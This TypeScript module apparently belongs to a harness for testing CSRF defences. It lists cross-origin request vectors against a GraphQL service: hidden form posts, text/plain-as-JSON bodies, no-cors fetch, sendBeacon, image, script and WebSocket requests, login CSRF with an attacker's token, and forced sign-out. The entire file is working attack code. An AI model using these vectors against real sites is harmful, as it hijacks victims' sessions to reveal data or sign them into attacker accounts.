// The ways in which a page of another origin might change something with the session of whoever looks at it. Each runs in that page.

export interface Target {
  /** The origin of the service. */
  readonly service: string
  /** A contact point that the victim may reveal: that writes a record. */
  readonly contact: string
  /** A token of the attacker, to sign the victim in as somebody else. */
  readonly token: string
}

const mutation = (contact: string) => `mutation { revealContact(id: "${contact}", purpose: JOB_SHADOWING) { value } }`

/** What the page needs at hand: written out, for a function that runs in the page sees nothing of this file. */
export interface Hand extends Target {
  readonly graphql: string
  readonly session: string
  readonly json: string
  readonly get: string
  readonly signIn: string
}

export function hand(target: Target): Hand {
  const query = mutation(target.contact)
  return {
    ...target, graphql: `${target.service}/graphql`, session: `${target.service}/auth/session`, json: JSON.stringify({ query }),
    get: `${target.service}/graphql?query=${encodeURIComponent(query)}`, signIn: JSON.stringify({ token: target.token }),
  }
}

/** It gives a promise where no request tells of its end. */
type InPage = (hand: Hand) => unknown

/** Adds a form with some fields to the page and sends it into a frame, a window or the page itself. */
const form = (action: 'graphql' | 'session' | 'get', enctype: string, target: string, fields: (hand: Hand) => Record<string, string>) => ({ action, enctype, target, fields })
export type Form = ReturnType<typeof form>

const query = ({ contact }: Hand) => ({ query: mutation(contact) })
/** JSON in a form of plain text: what stands behind the name goes into a value that nobody reads. */
const asText = (json: string) => ({ [`${json.slice(0, -1)},"padding":"`]: '"}' })
const multipart = ({ json }: Hand) => ({ operations: json, map: '{}' })

/** Forms: browsers send them anywhere, with cookies where SameSite lets them. */
export const forms: Record<string, Form> = {
  'form, urlencoded, into a frame': form('graphql', 'application/x-www-form-urlencoded', 'frame', query),
  'form, multipart, into a frame': form('graphql', 'multipart/form-data', 'frame', multipart),
  'form, plain text that is JSON, into a frame': form('graphql', 'text/plain', 'frame', ({ json }) => asText(json)),
  'form, urlencoded, into a new window': form('graphql', 'application/x-www-form-urlencoded', '_blank', query),
  'form, plain text that is JSON, into a new window': form('graphql', 'text/plain', '_blank', ({ json }) => asText(json)),
  'form, the mutation in the address': form('get', 'application/x-www-form-urlencoded', '_blank', () => ({})),
  'form that signs in as the attacker': form('session', 'text/plain', '_blank', ({ signIn }) => asText(signIn)),
  'form that signs out by an overridden method': form('session', 'application/x-www-form-urlencoded', '_blank', () => ({ _method: 'DELETE' })),
}

/** Scripts. */
export const scripts: Record<string, InPage> = {
  'fetch, no-cors, plain text that is JSON': ({ graphql, json }) => fetch(graphql, { method: 'POST', mode: 'no-cors', credentials: 'include', body: json }),
  'fetch, no-cors, called JSON by a blob': ({ graphql, json }) => fetch(graphql, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([json], { type: 'application/json' }) }),
  'fetch, cors, JSON with credentials': ({ graphql, json }) => fetch(graphql, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: json }),
  'fetch, cors, plain text with credentials': ({ graphql, json }) => fetch(graphql, { method: 'POST', credentials: 'include', body: json }),
  'fetch, cors, a GET with the headers of an API client': ({ get }) => fetch(get, { credentials: 'include', headers: { 'X-Requested-With': 'XMLHttpRequest' } }),
  'fetch, no-cors, kept alive, urlencoded': ({ graphql, json }) => fetch(graphql, { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body: new URLSearchParams(JSON.parse(json) as Record<string, string>) }),
  'XMLHttpRequest, plain text with credentials': ({ graphql, json }) => {
    const request = new XMLHttpRequest()
    request.open('POST', graphql)
    request.withCredentials = true
    request.send(json)
  },
  'sendBeacon, plain text': ({ graphql, json }) => void navigator.sendBeacon(graphql, json),
  'sendBeacon, JSON': ({ graphql, json }) => void navigator.sendBeacon(graphql, new Blob([json], { type: 'application/json' })),
  'sendBeacon, multipart': ({ graphql, json }) => {
    const data = new FormData()
    data.set('operations', json)
    data.set('map', '{}')
    navigator.sendBeacon(graphql, data)
  },
  'image': ({ get }) => void (new Image().src = get),
  'script element': ({ get }) => void document.head.append(Object.assign(document.createElement('script'), { src: get })),
  'style sheet': ({ get }) => void document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: get })),
  'frame': ({ get }) => void document.body.append(Object.assign(document.createElement('iframe'), { src: get })),
  'new window': ({ get }) => void window.open(get),
  'EventSource': ({ get }) => {
    const events = new EventSource(get, { withCredentials: true })
    events.onerror = () => events.close()
  },
  'fetch, no-cors, signs in as the attacker': ({ session, signIn }) => fetch(session, { method: 'POST', mode: 'no-cors', credentials: 'include', body: signIn }),
  'fetch, cors, signs in as the attacker': ({ session, signIn }) => fetch(session, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: signIn }),
  'fetch, cors, signs out': ({ session }) => fetch(session, { method: 'DELETE', credentials: 'include' }),
  'fetch, no-cors, signs out by an overridden method': ({ session }) => fetch(`${session}?_method=DELETE`, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'X-HTTP-Method-Override': 'DELETE' } }),
  'new window that signs out': ({ session }) => void window.open(session),
  'WebSocket': ({ graphql, json }) =>
    new Promise<void>((over) => {
      const socket = new WebSocket(graphql.replace('http', 'ws'), 'graphql-transport-ws')
      socket.onopen = () => {
        socket.send('{"type":"connection_init"}')
        socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload: JSON.parse(json) as unknown }))
      }
      socket.onmessage = socket.onclose = socket.onerror = () => over()
    }),
}

/** Sends a form from the page. */
export function send({ action, enctype, target, fields }: { action: string; enctype: string; target: string; fields: Record<string, string> }): void {
  if (target === 'frame') document.body.append(Object.assign(document.createElement('iframe'), { name: 'frame' }))
  const element = Object.assign(document.createElement('form'), { method: 'post', action, enctype, target })
  for (const [name, value] of Object.entries(fields)) element.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }))
  document.body.append(element)
  element.submit()
}
